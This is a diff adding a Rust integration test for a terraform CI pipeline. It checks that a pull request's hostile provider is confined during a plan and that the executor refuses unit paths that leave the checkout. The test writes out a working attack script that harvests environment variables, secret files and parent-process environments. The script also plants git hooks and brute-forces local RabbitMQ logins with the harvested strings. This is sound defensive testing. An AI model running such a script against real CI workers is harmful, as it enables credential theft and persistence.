@@ -1,0 +1,536 @@
+//! A pull request's code is hostile: what it can reach when it runs during a plan, on real
+//! workers (the built binary, real RabbitMQ, real terraform), and what the executor refuses
+//! before anything runs.
+#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: fail loudly.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+
+use base64::Engine;
+use broker::{Broker, Outgoing, REASON_HEADER, Route};
+use harness::deployment::Deployment;
+use harness::rabbit::{self, Vhost, rabbitmqctl};
+use harness::runs::{DEADLINE, orchestrate, wait_final};
+use harness::sandbox::Sandbox;
+use harness::{poll_until, require_terraform};
+use proto_types::{Action, ExecutorRole, Job, Payload, UnitState};
+use uuid::Uuid;
+
+/// The tool users of the two workers: numeric, so that no passwd entry is needed.
+const PLAN_TOOL_USER: u32 = 61_001;
+const APPLY_TOOL_USER: u32 = 61_002;
+
+/// A broker user of this test's own, with a password nobody could guess, removed on drop.
+struct BrokerUser {
+    name: String,
+    password: String,
+}
+
+impl BrokerUser {
+    fn new(vhost: &Vhost) -> BrokerUser {
+        let id = Uuid::new_v4().simple().to_string();
+        let user = BrokerUser {
+            name: format!("untrusted-{}", &id[..8]),
+            password: format!("pw-{}", Uuid::new_v4().simple()),
+        };
+        rabbitmqctl(&["add_user", &user.name, &user.password]);
+        rabbitmqctl(&[
+            "set_permissions",
+            "-p",
+            &vhost.name,
+            &user.name,
+            ".*",
+            ".*",
+            ".*",
+        ]);
+        user
+    }
+}
+
+impl Drop for BrokerUser {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("rabbitmqctl")
+            .args(["-q", "delete_user", &self.name])
+            .output();
+    }
+}
+
+fn write_private(path: &Path, content: &str) {
+    std::fs::write(path, content).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
+}
+
+fn executable(path: &Path, content: &str) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, content).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// A unit that needs no provider: it only has outputs.
+fn outputs_only(value: &str) -> String {
+    format!("output \"value\" {{\n  value = \"{value}\"\n}}\n")
+}
+
+/// Every process whose real user is `uid`.
+fn processes_of(uid: u32) -> Vec<String> {
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
+        .filter_map(|entry| {
+            let status = std::fs::read_to_string(entry.path().join("status")).ok()?;
+            let real = status
+                .lines()
+                .find_map(|line| line.strip_prefix("Uid:"))?
+                .split_whitespace()
+                .next()?
+                .parse::<u32>()
+                .ok()?;
+            (real == uid).then(|| status.lines().next().unwrap_or_default().to_owned())
+        })
+        .collect()
+}
+
+/// Every encoding of `secret` a reader could decode it from.
+fn encoded_forms(secret: &str) -> Vec<String> {
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    let mut forms = vec![
+        secret.to_owned(),
+        b64.encode(secret),
+        url.encode(secret),
+        b64.encode(format!(":{secret}")),
+        b64.encode(format!("x:{secret}")),
+    ];
+    let percent: String = secret
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    forms.push(percent);
+    // The middle of each base64 form: a prefix changes only the first characters.
+    let core: Vec<String> = forms[1..]
+        .iter()
+        .filter(|form| form.len() > 12)
+        .map(|form| form[4..form.len() - 4].to_owned())
+        .collect();
+    forms.extend(core);
+    forms
+}
+
+/// The provider a pull request ships: it runs when terraform loads the provider during the
+/// plan, as the plan worker's tool user, and reports each attempt to `report`.
+fn attacker_provider(report: &Path, targets: &Targets) -> String {
+    let files = targets
+        .files
+        .iter()
+        .map(|path| format!("'{}'", path.display()))
+        .collect::<Vec<_>>()
+        .join(" ");
+    let mirrors = targets
+        .work_dirs
+        .iter()
+        .map(|dir| format!("'{}'", dir.display()))
+        .collect::<Vec<_>>()
+        .join(" ");
+    format!(
+        r#"#!/bin/sh
+# A pull request's "provider": everything it tries is written to the report.
+R='{report}'
+say() {{ printf '%s\n' "$*" >> "$R"; }}
+say "== ran as uid $(id -u) gid $(id -g) groups $(id -G)"
+say "== environment"; env >> "$R" 2>&1
+for f in {files}; do say "== read $f"; cat "$f" >> "$R" 2>&1 || say "denied: $f"; done
+pid=$PPID
+for level in 1 2 3 4; do
+  say "== /proc/$pid/environ"; tr '\0' '\n' < /proc/$pid/environ >> "$R" 2>&1 || say "denied: /proc/$pid/environ"
+  say "== /proc/$pid/cmdline"; tr '\0' ' ' < /proc/$pid/cmdline >> "$R" 2>&1; say ""
+  pid=$(awk '/^PPid:/ {{print $2}}' /proc/$pid/status 2>/dev/null)
+  [ -n "$pid" ] && [ "$pid" -gt 1 ] || break
+done
+for w in {mirrors}; do
+  for m in "$w"/mirrors/*.git "$w/mirrors/infra.git"; do
+    say "== plant a hook and config in $m"
+    mkdir -p "$m/hooks" 2>>"$R" && printf '#!/bin/sh\ntouch /tmp/pwned-by-hook\n' > "$m/hooks/post-checkout" 2>>"$R" \
+      && chmod +x "$m/hooks/post-checkout" && say "PLANTED hook in $m" || say "denied: hook in $m"
+    printf '[core]\n\thooksPath = /tmp\n' >> "$m/config" 2>>"$R" && say "PLANTED config in $m" || say "denied: config in $m"
+  done
+  say "== leave a file in $w/jobs"
+  echo evil > "$w/jobs/left-by-a-plan" 2>>"$R" && say "LEFT a file in $w/jobs" || say "denied: $w/jobs"
+done
+echo evil > /tmp/left-by-a-plan-$(id -u) 2>/dev/null
+setsid sleep 600 < /dev/null > /dev/null 2>&1 &
+say "== broker attempts"
+timeout 40 /usr/bin/python3 - "$R" >> "$R" 2>&1 <<'PY'
+import re, socket, struct, sys
+text = open(sys.argv[1], errors="replace").read()
+candidates = sorted({{v for line in text.splitlines() if "=" in line for v in [line.split("=", 1)[1].strip()] if 8 <= len(v) <= 80}})[:12]
+users = sorted(set(re.findall(r"amqp://([^:@/\s]+)", text)) | {{"guest"}})
+def attempt(user, password):
+    s = socket.create_connection(("127.0.0.1", 5672), timeout=2)
+    s.sendall(b"AMQP\x00\x00\x09\x01")
+    def frame():
+        head = b""
+        while len(head) < 7:
+            chunk = s.recv(7 - len(head))
+            if not chunk: raise EOFError
+            head += chunk
+        size = struct.unpack(">BHI", head)[2]
+        body = b""
+        while len(body) < size + 1:
+            chunk = s.recv(size + 1 - len(body))
+            if not chunk: raise EOFError
+            body += chunk
+        return body[:-1]
+    frame()
+    response = b"\x00" + user.encode() + b"\x00" + password.encode()
+    args = struct.pack(">I", 0) + b"\x05PLAIN" + struct.pack(">I", len(response)) + response + b"\x05en_US"
+    payload = struct.pack(">HH", 10, 11) + args
+    s.sendall(struct.pack(">BHI", 1, 0, len(payload)) + payload + b"\xce")
+    try:
+        method = struct.unpack(">HH", frame()[:4])
+    except Exception:
+        return "refused"
+    return "ACCEPTED" if method == (10, 30) else "refused"
+tried = 0
+for user in users:
+    for password in candidates:
+        tried += 1
+        if attempt(user, password) == "ACCEPTED":
+            print(f"BROKER ACCEPTED {{user}}")
+print(f"broker attempts: {{tried}}")
+PY
+say "== done"
+exit 1
+"#,
+        report = report.display(),
+    )
+}
+
+/// What the attacker aims at.
+struct Targets {
+    files: Vec<PathBuf>,
+    work_dirs: Vec<PathBuf>,
+}
+
+#[test]
+fn a_pull_request_provider_finds_no_secret_and_leaves_nothing_for_the_next_apply() {
+    require_terraform();
+    let vhost = rabbit::vhost();
+    let sandbox = Sandbox::new();
+    // The tool users must pass through to their job directories.
+    std::fs::set_permissions(sandbox.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
+    let user = BrokerUser::new(&vhost);
+    let secrets = sandbox.dir("secrets");
+    let password_file = secrets.join("broker.password");
+    write_private(&password_file, &user.password);
+    let apply_token = format!("apply-token-{}", Uuid::new_v4().simple());
+    let plan_token = format!("plan-token-{}", Uuid::new_v4().simple());
+    let apply_token_file = secrets.join("apply.token");
+    let plan_token_file = secrets.join("plan.token");
+    write_private(&apply_token_file, &apply_token);
+    write_private(&plan_token_file, &plan_token);
+    let report_dir = tempfile::Builder::new()
+        .prefix("untrusted-report-")
+        .tempdir()
+        .unwrap();
+    std::fs::set_permissions(report_dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
+    let report = report_dir.path().join("report.txt");
+
+    let credentials = |name: &str, file: &Path, variable: &str| {
+        format!(
+            "[[credentials]]\nname = \"{name}\"\nprovider = \"command\"\ncommand = [\"sh\", \"-c\", \"printf '{{\\\"env\\\": {{\\\"{variable}\\\": \\\"%s\\\"}}}}' \\\"$(cat {})\\\"\"]\n\n",
+            file.display()
+        )
+    };
+    let accounts = format!(
+        "[[accounts]]\nname = \"dev\"\npaths = [\"dev/**\"]\nplan_credentials = \"dev-plan\"\napply_credentials = \"dev-apply\"\n\n{}{}",
+        credentials("dev-plan", &plan_token_file, "PLAN_TOKEN"),
+        credentials("dev-apply", &apply_token_file, "APPLY_TOKEN"),
+    );
+    let broker_url = format!("amqp://{}@127.0.0.1:5672/{}", user.name, vhost.name);
+    // No TF_CLI_CONFIG_FILE for tools: terraform then finds the PR's provider where any
+    // default installation would, in the unit's terraform.d/plugins.
+    let extra = "\n[executor]\npass_env = []\n";
+    let config = sandbox.write_config_with(&broker_url, &accounts, extra);
+    let text = std::fs::read_to_string(&config).unwrap().replacen(
+        "\n\n[[repositories]]",
+        &format!(
+            "\nbroker_password_file = \"{}\"\n\n[[repositories]]",
+            password_file.display()
+        ),
+        1,
+    );
+    write_private(&config, &text);
+
+    let repo = &sandbox.repo;
+    repo.write("README.md", "# infrastructure\n");
+    let c0 = repo.commit("c0: readme");
+    repo.write("dev/app/main.tf", &outputs_only("one"));
+    repo.write("dev/app/pipelines.hcl", "dependencies = []\n");
+    let c1 = repo.commit("c1: dev/app");
+    repo.git(&["checkout", "-q", "-b", "evil"]);
+    repo.write(
+        "dev/evil/main.tf",
+        "terraform {\n  required_providers {\n    evil = {\n      source  = \"example.com/evil/evil\"\n      version = \"1.0.0\"\n    }\n  }\n}\nprovider \"evil\" {}\n",
+    );
+    repo.write("dev/evil/pipelines.hcl", "dependencies = []\n");
+    let work = sandbox.path().join("work");
+    let (plan_work, apply_work) = (work.join("dev-plan-1"), work.join("dev-1"));
+    let targets = Targets {
+        files: vec![
+            config.clone(),
+            password_file.clone(),
+            apply_token_file.clone(),
+            plan_token_file.clone(),
+        ],
+        work_dirs: vec![plan_work.clone(), apply_work.clone()],
+    };
+    executable(
+        &repo
+            .path()
+            .join("dev/evil/terraform.d/plugins/example.com/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0"),
+        &attacker_provider(&report, &targets),
+    );
+    let c2 = repo.commit("c2: a pull request with a provider of its own");
+    repo.git(&["checkout", "-q", "main"]);
+
+    let mut deployment = Deployment::start(sandbox.path(), &config, &[]);
+    let tool_user = |uid: u32| format!("{uid}:{uid}");
+    let (plan_user, apply_user) = (tool_user(PLAN_TOOL_USER), tool_user(APPLY_TOOL_USER));
+    deployment.start_executor_with(
+        "dev:plan",
+        "dev-plan-1",
+        &[("PIPELINES_EXECUTOR__TOOL_USER", &plan_user)],
+    );
+    deployment.start_executor_with(
+        "dev",
+        "dev-1",
+        &[("PIPELINES_EXECUTOR__TOOL_USER", &apply_user)],
+    );
+
+    // The pull request: its plan runs the provider, which fails the job (it is no provider).
+    let broker = format!(
+        "amqp://{}:{}@127.0.0.1:5672/{}",
+        user.name, user.password, vhost.name
+    );
+    let pr = orchestrate(
+        &sandbox,
+        broker.as_str(),
+        (&c1, &c2),
+        "pull-request",
+        &["--pr", "7", "--format", "json"],
+    );
+    let run: serde_json::Value =
+        serde_json::from_str(&pr.stdout).unwrap_or_else(|err| panic!("{err}: {}", pr.transcript()));
+    let run_id: Uuid = run["run_id"].as_str().unwrap().parse().unwrap();
+    let detail = wait_final(&sandbox, run_id);
+    let evil = detail
+        .jobs
+        .iter()
+        .find(|job| job.unit == "dev/evil")
+        .unwrap_or_else(|| panic!("{detail:#?}"));
+    assert_eq!(evil.worker.as_deref(), Some("dev-plan-1"), "{detail:#?}");
+
+    let said = std::fs::read_to_string(&report)
+        .unwrap_or_else(|err| panic!("the provider never ran ({err}): {detail:#?}"));
+    // It ran, as the plan worker's tool user, with its own (plan) credentials and nothing else.
+    assert!(
+        said.contains(&format!(
+            "== ran as uid {PLAN_TOOL_USER} gid {PLAN_TOOL_USER} groups {PLAN_TOOL_USER}\n"
+        )),
+        "{said}"
+    );
+    assert!(said.contains(&format!("PLAN_TOKEN={plan_token}")), "{said}");
+    assert!(said.contains("== done"), "{said}");
+    let attempts: usize = said
+        .lines()
+        .find_map(|line| line.strip_prefix("broker attempts: "))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no broker attempt was made:\n{said}"));
+    assert!(attempts > 0, "{said}");
+    for secret in [&apply_token, &user.password] {
+        for form in encoded_forms(secret) {
+            assert!(
+                !said.contains(&form),
+                "{form:?} (from {secret:?}) reached the plan:\n{said}"
+            );
+        }
+    }
+    for forbidden in ["PLANTED", "LEFT a file", "BROKER ACCEPTED", "PIPELINES_"] {
+        assert!(!said.contains(forbidden), "{forbidden}:\n{said}");
+    }
+    for file in &targets.files {
+        assert!(
+            said.contains(&format!("denied: {}", file.display())),
+            "{}: {said}",
+            file.display()
+        );
+    }
+    // Nothing it started outlives its job.
+    poll_until(DEADLINE, "the plan's processes to be gone", || {
+        processes_of(PLAN_TOOL_USER).is_empty().then_some(())
+    });
+    // The job's directory is gone.
+    let jobs: Vec<_> = std::fs::read_dir(plan_work.join("jobs"))
+        .unwrap()
+        .flatten()
+        .collect();
+    assert!(jobs.is_empty(), "{jobs:?}");
+
+    // The next apply in the account, on this machine, runs clean.
+    let push = orchestrate(
+        &sandbox,
+        broker.as_str(),
+        (&c0, &c1),
+        "push",
+        &["--wait", "--format", "json"],
+    );
+    assert_eq!(push.code(), Some(0), "{}", push.transcript());
+    let pushed: proto_types::RunStatus = serde_json::from_str(&push.stdout).unwrap();
+    assert!(
+        pushed
+            .units
+            .iter()
+            .all(|unit| unit.state == UnitState::Succeeded),
+        "{pushed:#?}"
+    );
+    let after = std::fs::read_to_string(&report).unwrap();
+    assert_eq!(after, said, "the provider ran again");
+    assert!(!Path::new("/tmp/pwned-by-hook").exists());
+    for work_dir in [&plan_work, &apply_work] {
+        let hooks = work_dir.join("mirrors/infra.git/hooks");
+        assert!(!hooks.exists(), "{}", hooks.display());
+    }
+    deployment.assert_running();
+    let _ = std::fs::remove_file(format!("/tmp/left-by-a-plan-{PLAN_TOOL_USER}"));
+    drop(deployment);
+}
+
+/// A job published straight to a plan queue, bypassing the dispatcher.
+fn job(unit: &str, commit: &str) -> Job {
+    Job {
+        job_id: Uuid::new_v4(),
+        run_id: Uuid::new_v4(),
+        repository: "infra".into(),
+        account: "dev".into(),
+        commit: commit.into(),
+        unit: unit.into(),
+        action: Action::Plan,
+        source_commit: None,
+        attempt: 1,
+        timeout_secs: 0,
+        role: ExecutorRole::Plan,
+    }
+}
+
+#[test]
+fn unit_paths_out_of_the_checkout_fail_at_the_executor() {
+    require_terraform();
+    let vhost = rabbit::vhost();
+    let sandbox = Sandbox::new();
+    let repo = &sandbox.repo;
+    repo.write("README.md", "# infrastructure\n");
+    let c0 = repo.commit("c0: readme");
+    repo.write("dev/app/main.tf", &outputs_only("one"));
+    repo.write("dev/app/pipelines.hcl", "dependencies = []\n");
+    std::os::unix::fs::symlink("../../..", repo.path().join("dev/escape")).unwrap();
+    let c1 = repo.commit("c1: a unit and a symlink out of the repository");
+    let config = sandbox.write_config(&vhost.url, &[("dev", "dev/**")], "");
+    let deployment = Deployment::start(sandbox.path(), &config, &[("dev", 1)]);
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    let broker = runtime
+        .block_on(Broker::connect(&vhost.url, "untrusted-plan-test"))
+        .unwrap();
+
+    // Published straight to the queue: the executor itself refuses, and dead-letters them.
+    let bad = [
+        ("../outside", "is not a relative, normalized path"),
+        ("/etc", "is not a relative, normalized path"),
+        ("dev/../dev/app", "is not a relative, normalized path"),
+        (
+            "prod/app",
+            "matches no account in this worker's configuration",
+        ),
+    ];
+    let headers = broker::Headers::new();
+    for (unit, _) in bad {
+        let body = job(unit, &c1).encode();
+        let route = Route::Jobs {
+            account: "dev",
+            role: ExecutorRole::Plan,
+        };
+        runtime
+            .block_on(broker.publish(route, Outgoing::new(&body, unit, &headers)))
+            .unwrap();
+    }
+    let mut dead = runtime
+        .block_on(broker.consume("dead.jobs.dev.plan", 1))
+        .unwrap();
+    let mut reasons = Vec::new();
+    while reasons.len() < bad.len() {
+        let delivery = runtime
+            .block_on(async { tokio::time::timeout(DEADLINE, dead.next()).await })
+            .unwrap_or_else(|_| panic!("only these dead letters: {reasons:?}"))
+            .unwrap()
+            .unwrap();
+        let job = Job::decode(&delivery.body).unwrap();
+        let reason = delivery
+            .headers
+            .get(REASON_HEADER)
+            .cloned()
+            .unwrap_or_default();
+        runtime.block_on(delivery.ack()).unwrap();
+        reasons.push((job.unit, reason));
+    }
+    for (unit, expected) in bad {
+        let (_, reason) = reasons.iter().find(|(u, _)| u == unit).unwrap();
+        assert!(
+            reason.starts_with("refused by executor dev-plan-1: ") && reason.contains(expected),
+            "{unit}: {reason}"
+        );
+    }
+
+    // A symlink out of the checkout, in a run the dispatcher made (a forged change event):
+    // the job fails at the executor with the reason, and nothing runs.
+    let event = proto_types::ChangeEvent {
+        id: Uuid::new_v4(),
+        repository: "infra".into(),
+        trigger: proto_types::Trigger::PullRequest {
+            number: Some(3),
+            base_branch: "main".into(),
+            head_branch: "x".into(),
+        },
+        base_sha: c0.clone(),
+        head_sha: c1.clone(),
+        changes: vec![proto_types::Change {
+            kind: proto_types::ChangeKind::UnitChanged,
+            units: vec!["dev/escape".into()],
+            files: vec![],
+        }],
+        dependencies: vec![],
+    };
+    let body = event.encode();
+    runtime
+        .block_on(broker.publish(Route::Changes, Outgoing::new(&body, "forged", &headers)))
+        .unwrap();
+    let detail = wait_final(&sandbox, event.id);
+    let escaped = detail
+        .jobs
+        .iter()
+        .find(|job| job.unit == "dev/escape")
+        .unwrap();
+    let reason = escaped.reason.clone().unwrap_or_default();
+    assert_eq!(escaped.state, "failed", "{detail:#?}");
+    assert!(
+        reason.contains("leads out of the checkout") && reason.contains("nothing ran"),
+        "{reason}"
+    );
+    assert!(!reason.contains("$ terraform"), "a tool ran: {reason}");
+    drop(deployment);
+}
